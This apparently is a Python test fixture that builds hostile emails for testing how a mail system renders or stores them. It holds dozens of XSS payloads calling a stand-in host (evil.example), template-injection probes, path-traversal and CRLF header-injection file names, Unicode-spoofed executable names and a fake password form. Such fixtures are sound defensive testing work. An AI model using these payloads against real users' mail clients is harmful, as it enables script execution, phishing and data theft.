"""Mails and file names made to run, to fetch or to deceive in whoever's browser shows them."""

from email.message import EmailMessage
from typing import Final

RUN: Final = "window.pwned=1;fetch('https://evil.example/ran')"
AWAY: Final = "https://evil.example/x"
HTML: Final = (
    f"<script>{RUN}</script>",
    f"<script src={AWAY}></script>",
    f'<img src=x onerror="{RUN}">',
    f"<img src={AWAY}.png width=1 height=1>",
    f'<svg onload="{RUN}"></svg>',
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    f"<svg><image href={AWAY}.svg /></svg>",
    f"<svg><use href={AWAY}.svg#a /></svg>",
    f"<svg><foreignObject><iframe src={AWAY}></iframe></foreignObject></svg>",
    f"<iframe src={AWAY}></iframe>",
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f"<object data={AWAY}></object>",
    f"<embed src={AWAY}>",
    f"<link rel=stylesheet href={AWAY}.css>",
    f"<link rel=preload as=image href={AWAY}.png>",
    f"<link rel=dns-prefetch href={AWAY}>",
    f"<style>@import '{AWAY}.css';</style>",
    f"<style>body{{background:url({AWAY}.png)}}</style>",
    f"<style>@font-face{{font-family:x;src:url({AWAY}.woff)}}*{{font-family:x}}</style>",
    f'<div style="background:url({AWAY}.png)">x</div>',
    f'<body onload="{RUN}">x</body>',
    f"<body background={AWAY}.png>x</body>",
    f"<table background={AWAY}.png><tr><td background={AWAY}.png>x</td></tr></table>",
    f'<video src={AWAY}.mp4 autoplay onerror="{RUN}"></video>',
    f"<audio src={AWAY}.mp3 autoplay></audio>",
    f"<video poster={AWAY}.png></video>",
    f"<picture><source srcset={AWAY}.png><img></picture>",
    f'<img srcset="{AWAY}.png 2x">',
    f"<input type=image src={AWAY}.png>",
    f'<input autofocus onfocus="{RUN}">',
    f'<select autofocus onfocus="{RUN}"></select>',
    f'<textarea autofocus onfocus="{RUN}"></textarea>',
    f'<details open ontoggle="{RUN}">x</details>',
    f'<marquee onstart="{RUN}">x</marquee>',
    f"<form action={AWAY}><input name=p type=password><button autofocus>Se connecter</button></form>",
    f"<form action={AWAY} method=post id=f></form><button form=f formaction={AWAY}>x</button>",
    f'<meta http-equiv=refresh content="0;url={AWAY}">',
    f"<base href={AWAY}>",
    f'<a href="javascript:{RUN}" autofocus>cliquez</a>',
    f'<a href="{AWAY}" ping="{AWAY}">banque.example</a>',
    f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
    f'<math><maction actiontype=statusline xlink:href="javascript:{RUN}">x</maction></math>',
    f'<math><mtext></form><form><mglyph><style></math><img src onerror="{RUN}">',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<textarea></textarea><script>{RUN}</script>",
    f"</main></body><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"<scr\0ipt>{RUN}</scr\0ipt>",
    f"<SCRIPT\n>{RUN}</SCRIPT\n>",
    f"<<script>{RUN}//<</script>",
    f"<template><script>{RUN}</script></template>",
    f"<portal src={AWAY}></portal>",
    f'<x contenteditable onblur="{RUN}" autofocus tabindex=1>x</x>',
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "%(name)s {0.__class__} ${7*7} #{7*7} <%= 7*7 %>",
)
SUBJECT: Final = f'</title><script>{RUN}</script> {{{{ 7*7 }}}} "onload="'
SENDER: Final = "<img src=x onerror=pwned()>"
NAMES: Final = (
    "facture\u202efdp.exe",
    "budget\u202egpj.pdf",
    "\u2066plan\u2069.pdf",
    "dossier\u200b.pdf",
    "dos\u200dsier.pdf",
    "syn\u200copsis.pdf",
    "a\ufeffb.pdf",
    "a\u2060b.pdf",
    "sy\u00adnopsis.pdf",
    "blank\u3164name.pdf",
    "braille\u2800space.pdf",
    "tag\U000e0041\U000e0042.pdf",
    "selector\ufe0f.pdf",
    "private\ue000.pdf",
    "z" + "\u0301" * 60 + ".pdf",
    "e\u20dd\u20dd\u20dd\u20dd.pdf",
    "line\u2028break.pdf",
    "paragraph\u2029break.pdf",
    "em\u2003space.pdf",
    "ideographic\u3000space.pdf",
    "<script>alert(1)</script>.pdf",
    '"><img src=x onerror=alert(1)>.pdf',
    "' onmouseover='alert(1).pdf",
    "</title><svg onload=alert(1)>.pdf",
    "{{ 7*7 }}.pdf",
    "{% include '/etc/passwd' %}.pdf",
    "%(name)s %s %n.pdf",
    "&lt;b&gt;.pdf",
    "../../../etc/passwd",
    "..\\..\\windows\\system32\\drivers.pdf",
    "/etc/shadow",
    "C:\\autoexec.bat.pdf",
    "CON.pdf",
    "name\r\nSet-Cookie: a=b.pdf",
    "tab\there.pdf",
    "nul\0byte.pdf",
    "a" * 300 + ".pdf",
    "\u05d0\u05d1\u05d2 (\u05d3).pdf",
    "\u0627\u0644\u0645\u0644\u0641.pdf",
    "; filename=other.exe; x=.pdf",
)


def html_mail(number: int, body: str) -> bytes:
    """A mail whose whole text is this HTML, whose subject and sender's name are no better."""
    mail = _headed(number)
    mail.set_content(body, subtype="html", cte="8bit" if body.isascii() else "base64")
    return mail.as_bytes()


def named_mail(number: int, names: tuple[str, ...]) -> bytes:
    """A mail with a small text file under each of these names, written raw as a hostile program would."""
    head = (
        _headed(number).as_bytes().rstrip(b"\n")
        + b'\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b"\n\n'
    )
    parts = [b"--b\nContent-Type: text/plain\n\nVoici.\n"]
    for name in names:
        quoted = name.encode("utf-8").hex()
        escaped = "".join(f"%{quoted[at : at + 2]}" for at in range(0, len(quoted), 2))
        parts.append(
            b"--b\nContent-Type: application/octet-stream\n"
            b"Content-Disposition: attachment; filename*=utf-8''%s\n\nUn synopsis.\n" % escaped.encode()
        )
    return head + b"".join(parts) + b"--b--\n"


def _headed(number: int) -> EmailMessage:
    mail = EmailMessage()
    mail["Return-Path"] = f"<eve{number}@intruder.example>"
    mail["Received"] = f"from x.example by mx.fonds.example; Wed, 14 Apr 2021 10:{number % 60:02}:00 +0200"
    mail["From"] = f'"{SENDER}" <eve{number}@intruder.example>'
    mail["To"] = "depot@fonds.example"
    mail["Subject"] = SUBJECT
    mail["Date"] = "Wed, 14 Apr 2021 10:00:00 +0200"
    mail["Message-ID"] = f"<hostile-{number}@intruder.example>"
    return mail
